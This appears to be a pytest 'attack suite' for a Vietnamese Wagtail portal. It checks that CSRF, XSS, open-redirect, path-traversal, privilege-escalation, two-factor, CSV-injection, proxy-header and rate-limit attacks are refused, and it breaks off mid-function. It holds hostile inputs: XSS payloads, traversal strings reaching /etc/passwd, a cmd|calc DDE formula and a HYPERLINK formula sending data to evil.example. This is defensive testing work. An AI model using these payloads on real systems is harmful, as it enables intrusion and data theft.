"""The attack suite: forged requests against the running portal (Django's test client, real
middleware and views). Each parametrized case is one attack; every one must be held.

IDOR on pages and media across units is the ownership matrix (tests/test_ownership_matrix.py,
322 cells); here only the document and image delete/edit URLs it does not cover.
"""

from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Page
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield

from articles.models import ArticlePage
from units.models import UnitPage

from .factories import UnitPageFactory, pdf_bytes, png_bytes
from .test_ownership_matrix import article_form

pytestmark = pytest.mark.django_db
MARK = "xssMark"
PAYLOADS = [
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"'><svg onload={MARK}()>",
    f"javascript:{MARK}()",
]


# --- CSRF on every URL pattern ----------------------------------------------------------


def url_patterns(resolver=None, prefix=""):
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            yield from url_patterns(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern), entry.callback


def _without_groups(regex):
    """Each (outermost) regex group becomes a sample value."""
    out, depth = [], 0
    for char in regex:
        if char == "(":
            if depth == 0:
                out.append("1/")
            depth += 1
        elif char == ")":
            depth -= 1
        elif depth == 0:
            out.append(char)
    return "".join(out).replace("//", "/")


def concrete(pattern):
    """A URL for a pattern: ids become 1, other parameters a word."""
    import re

    url = re.sub(r"<(int|id):[^>]+>", "1", pattern)
    url = re.sub(r"<path:[^>]+>", "trang/con", url)
    url = re.sub(r"<[^>]+>", "x", url)
    url = _without_groups(url).replace("^", "").replace("$", "").replace("\\", "")
    return "/" + url.lstrip("/")


CSRF_EXEMPT = {"/counter/"}  # counts a view; nothing a forged request can abuse
# Wagtail's admin API (Django REST framework) is read-only; DRF's session authentication
# enforces CSRF itself, so the POSTs below are refused there too.
DRF_PREFIX = "/admin/api/"
# The public API (/api/v2/) is anonymous and read-only: no session is read there, so a forged
# request carries no authority; every state-changing method is refused with 405.
PUBLIC_API_PREFIX = "/api/v2/"
PATTERNS = sorted({concrete(p) for p, _ in url_patterns()})


def test_post_without_csrf_token_is_refused_everywhere(admin_user_csrf_client):
    """One attack per URL pattern (about 300): a logged-in administrator's browser is made to
    POST without the token."""
    accepted = []
    for url in PATTERNS:
        if url in CSRF_EXEMPT:
            continue
        response = admin_user_csrf_client.post(url, {"title": "giả mạo"})
        refused = 405 if url.startswith(PUBLIC_API_PREFIX) else 403
        if response.status_code != refused:
            accepted.append((url, response.status_code))
    assert len(PATTERNS) > 250
    assert accepted == []


def test_every_csrf_exemption_is_known():
    exempt = {concrete(p) for p, view in url_patterns() if getattr(view, "csrf_exempt", False)}
    assert {
        url for url in exempt if not url.startswith((DRF_PREFIX, PUBLIC_API_PREFIX))
    } == CSRF_EXEMPT


@pytest.fixture
def admin_user_csrf_client(django_user_model, home):
    client = Client(enforce_csrf_checks=True)
    client.force_login(
        django_user_model.objects.create_superuser("quantri", "qt@example.invalid", "x" * 14)
    )
    return client


# --- XSS ---------------------------------------------------------------------------


class Injected(HTMLParser):
    """Finds markup an attacker made: a script element of their own, an on* handler or a
    javascript: URL carrying the marker."""

    def __init__(self):
        super().__init__()
        self.found, self._in_script = [], False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") and MARK.lower() in value:
                self.found.append(f"{name} on <{tag}>")
            if name in ("href", "src", "action") and value.startswith("javascript:"):
                self.found.append(f"javascript: in {name}")

    def handle_data(self, data):
        if self._in_script and data.strip() == f"{MARK}()":
            self.found.append("script element")
        self._in_script = False


def injected(html):
    parser = Injected()
    parser.feed(html)
    return parser.found


PUBLIC_INPUTS = [
    "/search/?q={p}",
    "/search/?q=dang&loai={p}",
    "/search/?q=dang&don_vi={p}&nam={p}&tu_ngay={p}",
    "/search/?q=dang&sap_xep={p}&page={p}",
    "/search/?q={p}&format=json",
    "/search/suggest/?q={p}",
    "/feeds/rss/?q={p}",
    "/{p}/",
]


@pytest.mark.parametrize("url", PUBLIC_INPUTS)
def test_reflected_xss_is_escaped(client, article, url):
    """One attack per input and payload."""
    from urllib.parse import quote

    for payload in PAYLOADS:
        response = client.get(url.format(p=quote(payload, safe="")))
        assert response.status_code in (200, 400, 404)
        if response["Content-Type"].startswith("application/json"):
            assert response["X-Content-Type-Options"] == "nosniff"
            continue
        assert injected(response.text) == [], (url, payload)


@pytest.fixture
def register_page(home):
    from register.models import DocumentRegisterPage

    return home.add_child(instance=DocumentRegisterPage(title="Tra cứu văn bản"))


def test_register_filters_escape_input(client, register_page):
    for payload in PAYLOADS:
        for field in ("so_ky_hieu", "loai", "co_quan", "nam", "tinh_trang", "linh_vuc", "q"):
            response = client.get(register_page.url, {field: payload})
            assert response.status_code == 200
            assert injected(response.text) == [], (field, payload)


@pytest.fixture
def stored_payload(client, unit_editor, unit_approver, district):
    """A unit editor writes the payload into every field they can: page title, lead, rich
    text, an image's title and caption, a document's title and file name; the approver
    publishes it."""
    client.force_login(unit_editor)
    collection = district.access.collection
    client.post(
        reverse("wagtailimages:add"),
        {
            "title": PAYLOADS[0],
            "collection": collection.pk,
            "file": SimpleUploadedFile(f"{PAYLOADS[1]}.png", png_bytes()),
        },
    )
    client.post(
        reverse("wagtaildocs:add"),
        {
            "title": PAYLOADS[2],
            "collection": collection.pk,
            "file": SimpleUploadedFile(f"{PAYLOADS[0]}.pdf", pdf_bytes()),
        },
    )
    image = get_image_model().objects.get()
    document = get_document_model().objects.get()
    body = streamfield(
        [
            ("paragraph", rich_text(f'<p>{PAYLOADS[0]}<a href="javascript:{MARK}()">x</a></p>')),
            ("image", {"image": image.pk, "caption": PAYLOADS[1], "credit": PAYLOADS[2]}),
            ("quote", {"text": PAYLOADS[0], "attribution": PAYLOADS[1]}),
            ("document", {"document": document.pk, "title": PAYLOADS[2]}),
        ]
    )
    data = nested_form_data(
        {
            "title": PAYLOADS[0] + PAYLOADS[1],
            "slug": "bai-tan-cong",
            "lead": PAYLOADS[2],
            "main_image": image.pk,
            "body": body,
            "date": "26/11/2026 08:00",
            "author": PAYLOADS[1],
            "source": PAYLOADS[2],
            "source_url": "",
            "tags": PAYLOADS[0],
            "comments": inline_formset([]),
        }
    )
    response = client.post(
        reverse("wagtailadmin_pages:add", args=["articles", "articlepage", district.pk]), data
    )
    assert response.status_code == 302, response.content[:3000]
    page = ArticlePage.objects.get(slug="bai-tan-cong")
    page.get_latest_revision().publish(user=unit_approver)
    return page, image, document


STORED_PLACES = [
    "article", "unit", "home", "search", "feed", "admin-explorer", "admin-edit",
    "admin-images", "admin-documents", "admin-history", "admin-search",
]  # fmt: skip


def test_stored_xss_from_an_editor_is_escaped(client, stored_payload, district, admin_client):
    """One attack per place the payloads are shown (public pages, feed, admin screens)."""
    import xml.etree.ElementTree as ET

    page, image, document = stored_payload
    urls = {
        "article": page.url,
        "unit": district.url,
        "home": "/",
        "search": "/search/?q=xssmark",
        "feed": "/feeds/rss/",
        "admin-explorer": reverse("wagtailadmin_explore", args=[district.pk]),
        "admin-edit": reverse("wagtailadmin_pages:edit", args=[page.pk]),
        "admin-images": reverse("wagtailimages:index"),
        "admin-documents": reverse("wagtaildocs:index"),
        "admin-history": reverse("wagtailadmin_reports:site_history"),
        "admin-search": reverse("wagtailadmin_pages:search") + "?q=xssmark",
    }
    assert set(urls) == set(STORED_PLACES)
    for where in STORED_PLACES:
        response = (admin_client if where.startswith("admin") else client).get(urls[where])
        assert response.status_code == 200, where
        if where == "feed":
            assert "xml" in response["Content-Type"]  # never text/html
            tree = ET.fromstring(response.content)
            tags = {e.tag.rsplit("}", 1)[-1] for e in tree.iter()}
            assert not tags & {"script", "svg", "img"}
        else:
            assert injected(response.text) == [], where
    assert "/" not in document.filename and "<" not in document.filename


# --- open redirects ---------------------------------------------------------------------

NEXT = [
    "https://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "https:evil.example",
    "javascript:alert(1)",
    "http://testserver@evil.example/",
    " //evil.example",
]


@pytest.mark.parametrize("target", NEXT)
def test_login_next_cannot_leave_the_site(client, django_user_model, home, target):
    django_user_model.objects.create_superuser("quantri", "qt@example.invalid", "mat-khau-dai-12")
    response = client.post(
        "/admin/login/?next=" + target,
        {"username": "quantri", "password": "mat-khau-dai-12", "next": target},
    )
    assert response.status_code == 302
    location = response["Location"]
    assert location.startswith("/") and not location.startswith(("//", "/\\")), location


@pytest.mark.parametrize("target", NEXT)
def test_two_factor_next_cannot_leave_the_site(client, admin_client, target):
    from django.test import override_settings
    from django_otp.oath import totp
    from django_otp.plugins.otp_totp.models import TOTPDevice

    with override_settings(PORTAL_TWO_FACTOR_REQUIRED=True):
        admin_client.get(reverse("accounts_two_factor_setup"))
        device = TOTPDevice.objects.get()
        token = f"{totp(device.bin_key):06d}"
        response = admin_client.post(
            reverse("accounts_two_factor_setup"), {"otp_token": token, "next": target}
        )
    assert response.status_code == 302
    assert response["Location"] == "/admin/"


# --- path traversal ----------------------------------------------------------------------

TRAVERSALS = [
    "../../portal/settings/base.py",
    "..%2F..%2Fportal%2Fsettings%2Fbase.py",
    "%2e%2e/%2e%2e/manage.py",
    "....//....//manage.py",
    "..\\..\\manage.py",
    "%252e%252e%252fmanage.py",
    "/etc/passwd",
]


@pytest.mark.parametrize("prefix", ["/documents/{id}/", "/media/", "/media/documents/", "/static/"])
def test_path_traversal_reads_nothing(client, home, prefix):
    """One attack per prefix and path."""
    document = get_document_model().objects.create(
        title="Tệp", file=SimpleUploadedFile("tep.pdf", pdf_bytes())
    )
    for path in TRAVERSALS:
        response = client.get(prefix.format(id=document.pk) + path)
        assert response.status_code in (301, 302, 400, 404), path
        body = b"".join(response) if response.streaming else response.content
        assert b"SECRET_KEY" not in body and b"root:" not in body, path


def test_media_serving_refuses_traversal(rf, settings):
    """Django's file view (the development /media/ route) refuses every traversal."""
    from django.core.exceptions import SuspiciousFileOperation
    from django.http import Http404
    from django.views.static import serve

    for path in TRAVERSALS:
        with pytest.raises((Http404, SuspiciousFileOperation)):
            serve(rf.get("/media/" + path), path, document_root=settings.MEDIA_ROOT)


# --- IDOR and privilege escalation by a unit editor ---------------------------------


@pytest.fixture
def other_unit_media(province):
    other = UnitPageFactory(parent=province, title="Huyện ủy Bến Cầu")
    collection = UnitPage.objects.get(pk=other.pk).access.collection
    image = get_image_model().objects.create(
        title="Ảnh Bến Cầu", collection=collection, file=SimpleUploadedFile("a.png", png_bytes())
    )
    document = get_document_model().objects.create(
        title="Tài liệu Bến Cầu",
        collection=collection,
        file=SimpleUploadedFile("a.pdf", pdf_bytes()),
    )
    return image, document


@pytest.mark.parametrize(
    "url_name, kind, method",
    [
        ("wagtaildocs:delete", "document", "post"),
        ("wagtaildocs:delete", "document", "get"),
        ("wagtaildocs:edit", "document", "get"),
        ("wagtailimages:delete", "image", "post"),
        ("wagtailimages:edit", "image", "post"),
        ("wagtailimages:edit", "image", "get"),
    ],
)
def test_other_units_media_cannot_be_touched(
    client, unit_editor, other_unit_media, url_name, kind, method
):
    image, document = other_unit_media
    target = image if kind == "image" else document
    client.force_login(unit_editor)
    url = reverse(url_name, args=[target.pk])
    response = getattr(client, method)(url, {"title": "chiếm quyền"} if method == "post" else None)
    assert response.status_code in (302, 403)
    target.refresh_from_db()
    assert "Bến Cầu" in target.title


def escalation_requests(user, editors_group):
    return {
        "users-index": ("get", reverse("wagtailusers_users:index"), {}),
        "user-add-superuser": (
            "post",
            reverse("wagtailusers_users:add"),
            {
                "username": "ke-gian",
                "email": "k@example.invalid",
                "password1": "mat-khau-rat-dai-1",
                "password2": "mat-khau-rat-dai-1",
                "is_superuser": "on",
                "is_active": "on",
            },
        ),
        "user-edit-self": (
            "post",
            reverse("wagtailusers_users:edit", args=[user.pk]),
            {
                "username": user.username,
                "email": user.email,
                "is_superuser": "on",
                "is_active": "on",
            },
        ),
        "groups-index": ("get", reverse("wagtailusers_groups:index"), {}),
        "group-edit-own": (
            "post",
            reverse("wagtailusers_groups:edit", args=[editors_group.pk]),
            {
                "name": editors_group.name,
                "permissions": [p.pk for p in Permission.objects.all()[:50]],
            },
        ),
        "group-add": ("post", reverse("wagtailusers_groups:add"), {"name": "Nhóm lạ"}),
        "sites": ("get", reverse("wagtailsites:index"), {}),
        "workflows": ("get", reverse("wagtailadmin_workflows:index"), {}),
        "collections": ("post", reverse("wagtailadmin_collections:add"), {"name": "Lạ"}),
        "redirects": (
            "post",
            reverse("wagtailredirects:add"),
            {"old_path": "/", "redirect_link": "https://evil.example"},
        ),
        "portal-settings": ("get", "/admin/settings/navigation/portalsettings/", {}),
        "unit-editors": (
            "post",
            f"/admin/units/{editors_group.unit_as_editors.unit_id}/editors/",
            {"add": user.pk},
        ),
    }


@pytest.mark.parametrize(
    "attack",
    [
        "users-index",
        "user-add-superuser",
        "user-edit-self",
        "groups-index",
        "group-edit-own",
        "group-add",
        "sites",
        "workflows",
        "collections",
        "redirects",
        "portal-settings",
        "unit-editors",
    ],
)
def test_unit_editor_cannot_escalate(client, unit_editor, district, attack):
    from wagtail.contrib.redirects.models import Redirect
    from wagtail.models import Collection

    editors = UnitPage.objects.get(pk=district.pk).access.editors
    before = (
        Group.objects.count(),
        editors.permissions.count(),
        Collection.objects.count(),
        Redirect.objects.count(),
        type(unit_editor).objects.count(),
    )
    client.force_login(unit_editor)
    method, url, data = escalation_requests(unit_editor, editors)[attack]
    response = getattr(client, method)(url, data)
    assert response.status_code in (302, 403, 404), (attack, response.status_code)
    if response.status_code == 302:
        assert not response["Location"].startswith(url)
    unit_editor.refresh_from_db()
    assert not unit_editor.is_superuser
    after = (
        Group.objects.count(),
        editors.permissions.count(),
        Collection.objects.count(),
        Redirect.objects.count(),
        type(unit_editor).objects.count(),
    )
    assert after == before


# --- forged chooser ids (was a 500) ------------------------------------------------------


FORGED_IDS = ["abc", "1e5", "-1", "1 OR 1=1", "99999999999999999999999", "１", "0x10", " x"]


@settings(max_examples=10, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    forged=st.one_of(
        st.sampled_from(
            ["abc", "1e5", "-1", "1 OR 1=1", "99999999999999999999999", "１", "0x10", " "]
        ),
        st.text(min_size=1, max_size=30),
    )
)
def test_forged_chooser_ids_give_a_form_error_not_a_500(admin_client, article, district, forged):
    revisions = article.revisions.count()
    response = admin_client.post(
        reverse("wagtailadmin_pages:edit", args=[article.pk]),
        article_form(article, main_image=forged),
    )
    assert response.status_code in (200, 302)
    if response.status_code == 200:
        assert article.revisions.count() == revisions


def test_forged_successor_shows_the_error_on_the_unit_form(admin_client, district):
    assert (
        admin_client.get(reverse("wagtailadmin_pages:edit", args=[district.pk])).status_code == 200
    )
    for forged in FORGED_IDS:
        response = admin_client.post(
            reverse("wagtailadmin_pages:edit", args=[district.pk]),
            {"title": district.title, "slug": district.slug, "successor": forged},
        )
        assert response.status_code == 200, forged
        assert Page.objects.get(pk=district.pk).specific.successor_id is None


# --- documents follow the pages that use them (issue #21, finding 2) -------------------


def _document(name="tai-lieu.pdf", collection=None):
    from wagtail.models import Collection

    return get_document_model().objects.create(
        title="Tài liệu",
        file=SimpleUploadedFile(name, pdf_bytes()),
        collection=collection or Collection.get_first_root_node(),
    )


def _restrict(page, kind, **extra):
    from wagtail.models import PageViewRestriction

    restriction = PageViewRestriction.objects.create(page=page, restriction_type=kind, **extra)
    return restriction


def _attach(directive, document):
    from articles.models import DirectiveAttachment

    DirectiveAttachment.objects.create(page=directive, document=document, label="Toàn văn")


def _get(client, document):
    response = client.get(document.url)
    body = b"".join(response) if response.streaming else response.content
    return response, body


def test_attachment_of_a_login_restricted_page_is_not_served_anonymously(
    client, directive, django_user_model
):
    document = _document()
    _attach(directive, document)
    _restrict(directive, "login")
    response, body = _get(client, document)
    assert response.status_code == 302 and "/_util/login/" in response["Location"]
    assert b"%PDF" not in body
    assert "no-store" in response["Cache-Control"]

    reader = django_user_model.objects.create_user("dang-vien", "d@example.invalid", "x" * 14)
    client.force_login(reader)
    response, body = _get(client, document)
    assert response.status_code == 200 and body.startswith(b"%PDF")
    assert "private" in response["Cache-Control"] and "no-store" in response["Cache-Control"]


def test_document_block_of_a_group_restricted_article_follows_the_group(
    client, article, django_user_model, django_capture_on_commit_callbacks
):
    document = _document("bao-cao.pdf")
    group = Group.objects.create(name="Cấp ủy viên")
    with django_capture_on_commit_callbacks(execute=True):  # the reference index task
        article.body = [("document", {"document": document, "title": "Báo cáo"})]
        article.save_revision().publish()
    restriction = _restrict(article, "groups")
    restriction.groups.add(group)

    assert _get(client, document)[0].status_code == 302  # anonymous: log in first
    outsider = django_user_model.objects.create_user("ngoai", "n@example.invalid", "x" * 14)
    client.force_login(outsider)
    assert _get(client, document)[0].status_code == 404
    member = django_user_model.objects.create_user("uy-vien", "u@example.invalid", "x" * 14)
    member.groups.add(group)
    client.force_login(member)
    assert _get(client, document)[0].status_code == 200


def test_rich_text_link_in_a_password_page_needs_the_password(
    client, article, django_capture_on_commit_callbacks
):
    document = _document("phu-luc.pdf")
    with django_capture_on_commit_callbacks(execute=True):
        article.body = [
            ("paragraph", f'<p><a linktype="document" id="{document.pk}">Phụ lục</a></p>')
        ]
        article.save_revision().publish()
    restriction = _restrict(article, "password", password="mat-khau-trang")
    assert _get(client, document)[0].status_code == 404
    client.post(
        reverse("wagtailcore_authenticate_with_password", args=[restriction.pk, article.pk]),
        {"password": "mat-khau-trang", "return_url": article.url},
    )
    assert _get(client, document)[0].status_code == 200


def test_the_most_open_live_page_wins(client, directive, province):
    from .factories import DirectivePageFactory

    document = _document()
    _attach(directive, document)
    _restrict(directive, "login")
    open_page = DirectivePageFactory(parent=province, number=5, title="Chỉ thị số 05-CT/TW")
    _attach(open_page, document)
    response, body = _get(client, document)
    assert response.status_code == 200 and body.startswith(b"%PDF")
    assert "private" not in response.get("Cache-Control", "")

    open_page.unpublish()  # the open page is gone: only the restricted one uses the file
    assert _get(client, document)[0].status_code == 302


def test_a_document_no_live_page_uses_is_not_public(client, directive, unit_editor, district):
    unused = _document("chua-dung.pdf")
    assert _get(client, unused)[0].status_code == 404
    draft_only = _document("ban-nhap.pdf")
    _attach(directive, draft_only)
    directive.unpublish()
    assert _get(client, draft_only)[0].status_code == 404
    # An editor who may choose the file (their unit's collection) still gets it.
    own = _document("don-vi.pdf", collection=district.access.collection)
    client.force_login(unit_editor)
    assert _get(client, own)[0].status_code == 200
    assert _get(client, unused)[0].status_code == 404  # the root collection is not theirs


# --- two-factor outside the admin (issue #21, finding 3) -------------------------------


def _code(device):
    from django_otp.oath import totp

    return f"{totp(device.bin_key, step=device.step, t0=device.t0, digits=device.digits):06d}"


@pytest.fixture
def password_only(client, unit_editor, directive, article):
    """An editor with a confirmed authenticator who gave the password but not the code; a
    login-restricted page, its attachment, and a document in a login-only collection."""
    from django_otp.plugins.otp_totp.models import TOTPDevice
    from wagtail.models import Collection, CollectionViewRestriction

    from .conftest import UNIT_PASSWORD

    user = unit_editor
    device = TOTPDevice.objects.create(user=user, name="app", confirmed=True)
    document = _document()
    _attach(directive, document)
    _restrict(directive, "login")
    _restrict(article, "login")
    private = Collection.get_first_root_node().add_child(name="Nội bộ")
    CollectionViewRestriction.objects.create(collection=private, restriction_type="login")
    private_document = _document("noi-bo.pdf", collection=private)
    _attach(directive, private_document)
    client.post("/admin/login/", {"username": user.username, "password": UNIT_PASSWORD})
    assert client.session.get("_auth_user_id") == str(user.pk)  # the password step passed
    return client, device, [article.url, document.url, private_document.url]


def test_a_password_without_the_code_opens_nothing_restricted(password_only):
    client, device, urls = password_only
    for url in urls:
        response = client.get(url)
        assert response.status_code == 302, url
        assert "/_util/login/" in response["Location"] or "/admin/login/" in response["Location"]

    response = client.post(
        reverse("accounts_two_factor_verify"), {"otp_token": _code(device), "next": "/admin/"}
    )
    assert response.status_code == 302
    for url in urls:
        assert client.get(url).status_code == 200, url


def test_an_unverified_privileged_user_is_anonymous_on_the_site(client, article, admin_user_2fa):
    _restrict(article, "login")
    client.post("/admin/login/", {"username": "quantri", "password": "mat-khau-dai-12"})
    assert client.get(article.url).status_code == 302  # no device set up yet: not verified


@pytest.fixture
def admin_user_2fa(django_user_model, settings):
    settings.PORTAL_TWO_FACTOR_REQUIRED = True
    return django_user_model.objects.create_superuser(
        "quantri", "qt@example.invalid", "mat-khau-dai-12"
    )


# --- CSV formula injection (issue #21, finding 6) --------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_feedback_export_cells_cannot_become_formulas(admin_client, province, category, formula):
    import csv
    import io

    from feedback import handling

    handling.receive(
        {
            "name": formula,
            "email": "a@example.vn",
            "phone": "",
            "address": formula,
            "subject": formula,
            "message": "Xin hỏi về thủ tục chuyển sinh hoạt Đảng.",
        },
        unit=province,
        category=category,
        attachment_type="",
    )
    response = admin_client.get("/admin/feedback/items/?export=csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads Vietnamese right
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert "Mã tra cứu" in rows[0]
    for heading in ("Họ và tên", "Tiêu đề", "Địa chỉ"):
        assert rows[0][heading] == "'" + formula, heading


def test_report_exports_cannot_become_formulas(admin_client, district):
    """The same class elsewhere: Wagtail's page reports export editors' titles."""
    import csv
    import io

    from .factories import ArticlePageFactory

    page = ArticlePageFactory(parent=district, title="=1+2 tiêu đề")
    page.save_revision().publish()
    response = admin_client.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
    assert "'=1+2 tiêu đề" in cells
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))]


# --- the client address behind the proxies (issue #21, finding 12) ---------------------

BEHIND_NGINX = {
    "CLIENT_IP_HEADER": "HTTP_X_REAL_IP",  # RATELIMIT_IP_META_KEY=HTTP_X_REAL_IP, documented
    "TRUSTED_PROXIES": ["10.0.0.0/24", "127.0.0.1"],
}


def test_a_request_without_the_proxy_header_is_answered(client, home, settings):
    for name, value in BEHIND_NGINX.items():
        setattr(settings, name, value)
    settings.PORTAL_RATE_LIMITS = {**settings.PORTAL_RATE_LIMITS, "search": "5/m"}
    for address in ("10.0.0.5", "192.0.2.1"):  # from the proxy, and straight to 0.0.0.0:8000
        assert client.get("/search/?q=dang", REMOTE_ADDR=address).status_code == 200
        response = client.post("/counter/", {"page": ""}, REMOTE_ADDR=address)
        assert response.status_code == 200


def test_a_forged_header_does_not_escape_the_search_limit(client, home, settings):
    for name, value in BEHIND_NGINX.items():
        setattr(settings, name, value)
    settings.PORTAL_RATE_LIMITS = {**settings.PORTAL_RATE_LIMITS, "search": "3/m"}
    statuses = [
        client.get(
            f"/search/?q=dang&lan={n}", REMOTE_ADDR="192.0.2.50", HTTP_X_REAL_IP=f"203.0.113.{n}"
        ).status_code
        for n in range(6)
    ]
    assert statuses[:3] == [200] * 3 and set(statuses[3:]) == {429}
    # Through the proxy, readers behind it are told apart by the header it writes.
    statuses = [
        client.get(
            f"/search/?q=dang&lan={n}", REMOTE_ADDR="10.0.0.5", HTTP_X_REAL_IP=f"198.51.100.{n}"
        ).status_code
        for n in range(6)
    ]
    assert statuses == [200] * 6


def test_counter_and_audit_log_see_the_same_address_as_the_limits(
    client, home, settings, django_user_model
):
    from wagtail.models import ModelLogEntry

    for name, value in BEHIND_NGINX.items():
        setattr(settings, name, value)
    online = [
        client.post(
            "/counter/", {"page": ""}, REMOTE_ADDR="192.0.2.60", HTTP_X_REAL_IP=f"203.0.113.{n}"
        ).json()["online"]
        for n in range(4)
    ]
    assert online == [1, 1, 1, 1]  # forged headers are one visitor, not four
    through_proxy = client.post(
        "/counter/", {"page": ""}, REMOTE_ADDR="10.0.0.5", HTTP_X_REAL_IP="198.51.100.1"
    )
    assert through_proxy.json()["online"] == 2

    django_user_model.objects.create_superuser("quantri", "qt@example.invalid", "mat-khau-dai-12")
    login = {"username": "quantri", "password": "sai-mat-khau"}
    client.post("/admin/login/", login, REMOTE_ADDR="192.0.2.61", HTTP_X_REAL_IP="203.0.113.9")
    client.post("/admin/login/", login, REMOTE_ADDR="10.0.0.7", HTTP_X_REAL_IP="198.51.100.9")
    logged = ModelLogEntry.objects.filter(action="portal.login_failed").order_by("pk")
    assert [entry.data["ip"] for entry in logged] == ["192.0.2.61", "198.51.100.9"]


@given(header=st.text(max_size=60), remote=st.sampled_from(["10.0.0.5", "192.0.2.1", "", "x"]))
@settings(max_examples=60, deadline=None)
def test_any_header_or_remote_gives_an_address(header, remote):
    import ipaddress

    from django.test import RequestFactory, override_settings

    from portal.clientaddr import client_address

    with override_settings(**BEHIND_NGINX):
        request = RequestFactory().get("/", REMOTE_ADDR=remote, HTTP_X_REAL_IP=header)
        ipaddress.ip_address(client_address(request))  # never raises


# --- rate limits on every password door (issue #21, finding 10) ------------------------


def _limits(settings, **rates):
    settings.PORTAL_RATE_LIMITS = {**settings.PORTAL_RATE_LIMITS, **rates}


def test_page_password_guessing_is_limited(client, article, settings):
    _limits(settings, page_password="5/m")
    restriction = _restrict(article, "password", password="mat-khau-trang")
    url = reverse("wagtailcore_authenticate_with_password", args=[restriction.pk, article.pk])
    statuses = [
        client.post(url, {"password": f"doan-{n}", "return_url": article.url}).status_code
        for n in range(8)
    ]
    assert statuses[:5] == [200] * 5 and set(statuses[5:]) == {429}
    refused = client.post(url, {"password": "mat-khau-trang", "return_url": article.url})
    assert refused.status_code == 429 and "Quá nhiều yêu cầu" in refused.text
    # From many addresses, the one password is still limited.
    statuses = {
        client.post(url, {"password": "x"}, REMOTE_ADDR=f"192.0.2.{n}").status_code
        for n in range(10, 20)
    }
    assert 429 in statuses


def test_document_password_guessing_is_limited(client, home, settings):
    from wagtail.models import Collection, CollectionViewRestriction

    _limits(settings, page_password="3/m")
    private = Collection.get_first_root_node().add_child(name="Có mật khẩu")
    restriction = CollectionViewRestriction.objects.create(
        collection=private, restriction_type="password", password="bi-mat"
    )
    url = reverse("wagtaildocs_authenticate_with_password", args=[restriction.pk])
    statuses = [client.post(url, {"password": f"doan-{n}"}).status_code for n in range(5)]
    assert set(statuses[3:]) == {429}


def test_front_end_login_is_limited(client, home, settings, django_user_model):
    _limits(settings, login="4/m")
    django_user_model.objects.create_user("dang-vien", "d@example.invalid", "x" * 14)
    statuses = [
        client.post("/_util/login/", {"username": "dang-vien", "password": f"sai-{n}"}).status_code
        for n in range(6)
    ]
    assert statuses[:4] == [200] * 4 and set(statuses[4:]) == {429}
    # Per username too: another address does not get another four guesses.
    other = client.post(
        "/_util/login/", {"username": "dang-vien", "password": "sai"}, REMOTE_ADDR="192.0.2.77"
    )
    assert other.status_code == 429


def test_password_reset_mails_are_limited(client, home, settings, django_user_model):
    from django.core import mail

    _limits(settings, password_reset="3/h")
    django_user_model.objects.create_user("bientap", "bientap@example.invalid", "x" * 14)
    url = reverse("wagtailadmin_password_reset")
    statuses = [
        client.post(
            url, {"email": "bientap@example.invalid"}, REMOTE_ADDR=f"192.0.2.{n}"
        ).status_code
        for n in range(6)
    ]
    assert statuses[:3] == [302] * 3 and set(statuses[3:]) == {429}
    assert len(mail.outbox) == 3
    # Per address too, whatever e-mail is asked for.
    statuses = [
        client.post(url, {"email": f"ai-{n}@example.invalid"}, REMOTE_ADDR="192.0.2.99").status_code
        for n in range(5)
    ]
    assert set(statuses[3:]) == {429}


# --- a slow feed server (issue #21, finding 5) -----------------------------------------


def _fetched(*feeds):
    from newsfeeds.fetching import fetch_all
    from newsfeeds.models import ExternalFeed

    fetch_all(ExternalFeed.objects.filter(pk__in=[feed.pk for feed in feeds]).order_by("pk"))
    for feed in feeds:
        feed.refresh_from_db()


def test_a_server_dribbling_its_body_is_cut_at_the_deadline(feed_server):
    from .factories import ExternalFeedFactory
    from .feedserver import DRIBBLE_BYTES

    feed = ExternalFeedFactory(url=feed_server.url("/dribble.xml"))
    _fetched(feed)
    assert "Tải quá" in feed.last_error
    # It hung up at the deadline (5 s in tests: about 20 bytes), not when the server
    # was done (DRIBBLE_BYTES, a minute).
    assert feed_server.httpd.dribbled < DRIBBLE_BYTES // 2


@pytest.mark.parametrize("concurrency", [1, 4])
def test_a_slow_feed_does_not_hold_the_run_or_the_others(feed_server, settings, concurrency):
    from .factories import ExternalFeedFactory

    settings.NEWSFEEDS_CONCURRENCY = concurrency
    slow = ExternalFeedFactory(name="chậm", url=feed_server.url("/dribble-headers"))
    good = [
        ExternalFeedFactory(name=f"tốt {n}", url=feed_server.url(path))
        for n, path in enumerate(["/rss.xml", "/atom.xml"])
    ]
    _fetched(slow, *good)
    # The run ended while the server was still sending its headers.
    assert feed_server.httpd.header_dribble_done is False
    assert "Tải quá" in slow.last_error
    assert [feed.items.count() for feed in good] == [3, 2]


# --- crafted attachments cannot pin a worker (issue #21, finding 4) --------------------


def bomb_docx(paragraphs=400_000) -> bytes:
    """A small DOCX (a few hundred kB) whose document.xml expands to tens of MB."""
    import io
    import zipfile

    from .test_security_uploads import docx_bytes

    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
